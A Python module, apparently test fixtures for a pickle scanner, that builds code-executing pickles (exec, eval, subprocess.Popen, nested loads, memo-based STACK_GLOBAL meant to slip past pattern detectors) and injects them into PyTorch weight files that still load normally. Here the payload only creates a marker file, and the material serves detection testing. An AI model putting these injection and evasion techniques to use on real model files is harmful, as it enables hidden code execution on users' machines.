"""Pickles that would act if anybody unpickled them. The only effect of any of them is to create a marker file.

A *snippet* is a run of opcodes that leaves the stack as it found it, so it can stand at the start of any pickle and
the pickle still means what it meant: that is how real payloads hide in weights that load.
"""

from __future__ import annotations

import copyreg
import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

CODE = "import pathlib; pathlib.Path({!r}).touch()"


class Touch:
    """Pickles as a call of `builtins.exec` that creates `marker`."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return exec, (CODE.format(str(self.marker)),)


def text(value: str) -> bytes:
    """The opcode that pushes a text (`BINUNICODE`)."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def snippet(marker: Path, protocol: int = 2) -> bytes:
    """The call as the given protocol spells it, followed by `POP`."""
    body = pickle.dumps(Touch(marker), protocol)[:-1]
    if protocol >= 2:
        body = body[2:]
    if protocol >= 4:
        body = body[9:] if body[:1] == b"\x95" else body
    return body + b"0"


def inst(marker: Path) -> bytes:
    """`INST`: class and call in one opcode of protocol 0."""
    return b"(" + text(CODE.format(str(marker))) + b"ibuiltins\nexec\n0"


def obj(marker: Path) -> bytes:
    """`OBJ`: the callable lies on the stack beneath its arguments."""
    return b"(cbuiltins\nexec\n" + text(CODE.format(str(marker))) + b"o0"


def _eval(marker: Path) -> bytes:
    return b"c__builtin__\neval\n(" + text(f"__import__('pathlib').Path({str(marker)!r}).touch()") + b"tR0"


def newobj(marker: Path) -> bytes:
    """`NEWOBJ` of `subprocess.Popen`: it makes the object and does not start it, so an `eval` follows that acts."""
    return b"csubprocess\nPopen\n)\x810" + _eval(marker)


def newobj_ex(marker: Path) -> bytes:
    """The same with `NEWOBJ_EX`."""
    return b"csubprocess\nPopen\n)}\x920" + _eval(marker)


def stack_global_through_memo(marker: Path) -> bytes:
    """`STACK_GLOBAL` whose two names come out of the memo, where no pattern over adjacent opcodes sees them."""
    names = text("builtins") + b"r\x10'\x00\x000" + text("exec") + b"r\x11'\x00\x000"
    fetch = b"j\x10'\x00\x00j\x11'\x00\x00\x93"
    return names + fetch + b"(" + text(CODE.format(str(marker))) + b"tR0"


def extension(marker: Path) -> bytes:
    """`EXT1`, which finds its callable in copyreg's registry; use within `registered_extension`."""
    return b"\x82\xf0(" + text(CODE.format(str(marker))) + b"tR0"


class registered_extension:
    """Register `builtins.exec` as the extension that `extension` names, and take it back afterwards."""

    def __enter__(self) -> None:
        copyreg.add_extension("builtins", "exec", 0xF0)

    def __exit__(self, *exc: object) -> None:
        copyreg.remove_extension("builtins", "exec", 0xF0)


def nested(marker: Path) -> bytes:
    """A benign-looking pickle that unpickles a second one out of a byte string."""
    inner = pickle.dumps(Touch(marker), 2)
    return b"c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR0"


SNIPPETS: dict[str, Callable[[Path], bytes]] = {
    **{f"protocol_{p}": (lambda marker, p=p: snippet(marker, p)) for p in range(6)},  # type: ignore[misc]
    "inst": inst,
    "obj": obj,
    "newobj": newobj,
    "newobj_ex": newobj_ex,
    "stack_global_through_memo": stack_global_through_memo,
    "extension": extension,
    "nested": nested,
}
"""Every spelling of the payload, by name."""


def poison(stream: bytes, payload: bytes) -> bytes:
    """`stream` with a snippet before its first own opcode: it still unpickles to the same value."""
    head = 2 if stream[:1] == b"\x80" else 0
    return stream[:head] + payload + stream[head:]


def poison_zip(path: Path, payload: bytes) -> None:
    """Put a snippet into `data.pkl` of a torch zip in place, leaving the tensors as they are."""
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members:
            archive.writestr(name, poison(data, payload) if name.endswith("/data.pkl") else data)
    path.write_bytes(buffer.getvalue())


def poison_legacy(path: Path, payload: bytes) -> None:
    """Put a snippet into the object pickle of torch's legacy stream: the fourth of its five pickles."""
    data = path.read_bytes()
    stream = io.BytesIO(data)
    for _ in range(3):
        pickle.load(stream)  # magic number, version, system information: our own file, written a moment ago
    at = stream.tell()
    path.write_bytes(data[:at] + poison(data[at:], payload))
